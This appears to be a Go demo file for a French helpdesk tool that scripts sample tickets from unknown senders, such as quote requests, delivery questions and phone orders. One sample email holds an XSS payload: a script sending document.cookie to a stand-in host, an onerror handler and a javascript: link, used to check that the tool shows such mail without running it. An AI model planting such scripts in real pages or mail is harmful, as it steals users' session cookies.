package demo

import (
	"html"
	"strings"
	"time"

	"guichet/internal/desk"
)

// Emails from people guichet cannot tie to an order: tickets without one.

// suspiciousMail is a real-looking request whose HTML carries a script and an
// event handler, as some mailers and senders produce: guichet must show the
// text and run nothing.
const suspiciousMail = `<html><head><style>p{margin:0 0 8px}</style>` +
	`<script>fetch('https://collect.example.net/?c='+document.cookie)</script></head>` +
	`<body><div dir="ltr"><p>Bonjour,</p>` +
	`<p>Pour le comité d'entreprise de notre société, nous souhaiterions commander <b>12 parasols déportés 3 x 3 m</b>, livrés à Villeurbanne.</p>` +
	`<p>Pourriez-vous nous faire un devis avec un tarif dégressif, et nous indiquer le délai de livraison ?</p>` +
	`<p>Cordialement,<br>[nom_client]<br><i>Comité d'entreprise – Transports Rhône-Alpes</i></p>` +
	`<img src="https://pixel.example.net/open.gif" width="1" height="1" onerror="alert(document.cookie)">` +
	`<a href="javascript:alert(1)">Se désinscrire</a></div></body></html>`

func playUnknownSender(p *ticketPlan) {
	p.order = ""
	i := p.g.strangers
	p.g.strangers++
	switch i % 3 {
	case 0:
		p.topic("", "Demande de devis – parasols pour notre comité d'entreprise", "Devis 12 parasols (CE)")
		p.opens(msg{html: suspiciousMail})
		if !p.notes(p.g.agentDelay(), "Ce mail contenait un script et un pixel espion : guichet les a retirés à l'affichage. La demande est légitime (rappelé le CE ce matin).") {
			return
		}
		if p.replies(p.g.soon(), reply{status: desk.StatusWaitingCustomer,
			text: "Merci pour votre demande. Pour 12 parasols déportés, nous pouvons vous proposer 149 € TTC l'unité au lieu de 169 €, livraison offerte sous 10 jours ouvrés. Souhaitez-vous que nous vous envoyions un devis officiel au nom de votre comité d'entreprise ?"}) {
			p.silence()
		}
	case 1:
		p.topic("", "Question avant achat : livraison en Corse ?", "Livraison en Corse possible ?")
		first := p.incoming(msg{html: mailHTML("Bonjour,\nLivrez-vous en Corse (Ajaccio) ? Je suis intéressée par la plancha électrique inox 2 zones.\nMerci,\n[prenom]")}, p.cursor)
		second := p.incoming(msg{text: "Précision : c'est pour une livraison à domicile, pas en point relais.\n[prenom]"}, p.cursor.Add(4*time.Minute))
		p.add(step{in: []desk.Incoming{first, second}})
		p.status = desk.StatusWaitingAdmin
		p.replies(p.g.agentDelay(), reply{status: desk.StatusClosed,
			text: "Oui, nous livrons en Corse, à domicile. Un supplément de 15 € s'applique et le délai est de 5 à 7 jours ouvrés. Vous pouvez commander directement sur notre boutique : l'option vous sera proposée au moment du paiement."})
	default:
		p.topic("", "Commande passée par téléphone", "Commande sans confirmation")
		p.opens(msg{text: "Bonjour,\nJ'ai passé commande la semaine dernière par téléphone auprès de votre service client et je n'ai reçu aucune confirmation. Je n'ai pas de numéro de commande. Pouvez-vous vérifier ?\n[nom_client]"})
		if p.replies(p.g.agentDelay(), reply{status: desk.StatusWaitingCustomer,
			text: "Pourriez-vous nous indiquer le nom et l'adresse de livraison utilisés lors de la commande, ainsi que sa date approximative ? Nous la retrouverons et vous enverrons la confirmation."}) {
			p.silence()
		}
	}
}

// mailHTML is text as a webmail sends it.
func mailHTML(text string) string {
	var b strings.Builder
	b.WriteString(`<div dir="ltr" style="font-family:Arial,Helvetica,sans-serif">`)
	for _, line := range strings.Split(text, "\n") {
		b.WriteString("<div>" + html.EscapeString(line) + "</div>")
	}
	b.WriteString(`<br><div style="color:#777777">Envoyé depuis mon mobile</div></div>`)
	return b.String()
}
